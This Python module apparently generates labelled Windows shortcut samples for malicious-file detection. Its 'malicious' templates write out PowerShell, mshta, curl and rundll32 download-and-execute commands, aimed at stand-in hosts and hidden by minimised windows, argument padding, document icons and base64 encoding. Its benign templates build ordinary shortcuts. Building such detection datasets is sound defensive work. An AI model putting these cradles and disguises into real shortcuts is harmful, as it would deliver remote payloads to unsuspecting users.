"""Windows shortcut templates: downloaders dressed as documents, and ordinary shortcuts."""

from __future__ import annotations

import base64
import random

from maldoc.samples import lnk, text
from maldoc.samples.registry import template

_PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_CMD = r"C:\Windows\System32\cmd.exe"
_ICONS = (r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", r"%SystemRoot%\System32\imageres.dll",
          r"C:\Windows\System32\shell32.dll", r"%ProgramFiles%\Adobe\Acrobat DC\Acrobat\Acrobat.exe")


def _pad(rng: random.Random) -> str:
    return rng.choice((" ", "\t", "\r\n")) * rng.randint(80, 300) if rng.random() < 0.7 else ""


@template("lnk_powershell_download", "malicious", "lnk", ("lnk_shell", "lnk_download", "urls"),
          note="PowerShell downloader with a hidden window, padded arguments and a document icon")
def lnk_powershell_download(rng: random.Random) -> tuple[str, bytes]:
    url = text.inert_url(rng, ext=rng.choice((".ps1", ".exe", ".txt")))
    out = rf"$env:TEMP\{text.ident(rng, 4, 8).lower()}.exe"
    verb = rng.choice((f"iwr '{url}' -OutFile {out}; Start-Process {out}",
                       f"IEX (New-Object Net.WebClient).DownloadString('{url}')"))
    args = f"{_pad(rng)}-NoProfile -WindowStyle Hidden -Command \"{verb}\""
    data = lnk.shortcut(target=_PS, arguments=args, icon=rng.choice(_ICONS), show=lnk.SW_SHOWMINNOACTIVE,
                        working_dir=r"%TEMP%", name=text.lure(rng)[:40])
    return text.stem(rng), data


@template("lnk_cmd_mshta", "malicious", "lnk", ("lnk_shell", "urls"),
          note="cmd /c start mshta <url>, target given only in the environment-variable block")
def lnk_cmd_mshta(rng: random.Random) -> tuple[str, bytes]:
    url = text.inert_url(rng, ext=".hta")
    tool = rng.choice((f"mshta {url}", f"curl -s -o %TEMP%\\a.cmd {url} && %TEMP%\\a.cmd",
                       f"rundll32 \\\\{text.host(rng, bad=True)}@SSL\\DavWWWRoot\\x.dll,Entry"))
    data = lnk.shortcut(arguments=f"{_pad(rng)}/c start /min {tool}", env_target=r"%windir%\system32\cmd.exe",
                        icon=rng.choice(_ICONS), show=rng.choice((lnk.SW_SHOWMINNOACTIVE, lnk.SW_SHOWNORMAL)))
    return text.stem(rng), data


@template("lnk_encoded_command", "malicious", "lnk", ("lnk_shell", "lnk_encoded_command"),
          note="PowerShell -EncodedCommand (UTF-16LE base64) hiding a download cradle")
def lnk_encoded_command(rng: random.Random) -> tuple[str, bytes]:
    cradle = f"iwr {text.inert_url(rng)} -UseBasicParsing | iex"
    blob = base64.b64encode(cradle.encode("utf-16-le")).decode()
    flag = rng.choice(("-enc", "-e", "-EncodedCommand", "-ec"))
    data = lnk.shortcut(target=_PS, arguments=f"-nop -w hidden {flag} {blob}", icon=rng.choice(_ICONS),
                        show=lnk.SW_SHOWMINNOACTIVE, trailer=b"" if rng.random() < 0.7 else b"\x00" * 4)
    return text.stem(rng), data


@template("lnk_document", "benign", "lnk", note="shortcut to a document in the user's folders")
def lnk_document(rng: random.Random) -> tuple[str, bytes]:
    user = rng.choice(text.PEOPLE).split()[0]
    doc = f"{text.stem(rng)}.{rng.choice(('docx', 'xlsx', 'pdf', 'pptx'))}"
    data = lnk.shortcut(target=rf"C:\Users\{user}\Documents\{doc}", working_dir=rf"C:\Users\{user}\Documents",
                        name=doc, show=lnk.SW_SHOWNORMAL)
    return text.stem(rng), data


@template("lnk_program", "benign", "lnk", note="Start-menu style shortcut to an installed program")
def lnk_program(rng: random.Random) -> tuple[str, bytes]:
    app = rng.choice(("Notepad++\\notepad++.exe", "7-Zip\\7zFM.exe", "VideoLAN\\VLC\\vlc.exe",
                      "Mozilla Firefox\\firefox.exe", "Contoso\\Timesheets\\timesheets.exe"))
    args = rng.choice(("", "--profile default", "-new-window", "/minimized"))
    path = rf"C:\Program Files\{app}"
    data = lnk.shortcut(target=path, arguments=args, icon=path, working_dir=path.rsplit("\\", 1)[0],
                        show=rng.choice((lnk.SW_SHOWNORMAL, lnk.SW_SHOWMAXIMIZED)))
    return text.stem(rng), data
